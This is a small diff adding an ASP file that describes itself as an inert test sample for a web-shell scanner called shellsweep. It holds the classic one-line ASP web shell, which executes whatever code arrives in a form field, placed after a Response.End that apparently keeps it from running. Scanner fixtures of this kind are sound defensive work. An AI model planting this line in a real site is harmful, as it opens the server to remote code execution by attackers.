@@ -1,0 +1,3 @@
+<% ' shellsweep test sample: inert, never functional
+Response.End %>
+<%execute(request.form("x"))%>
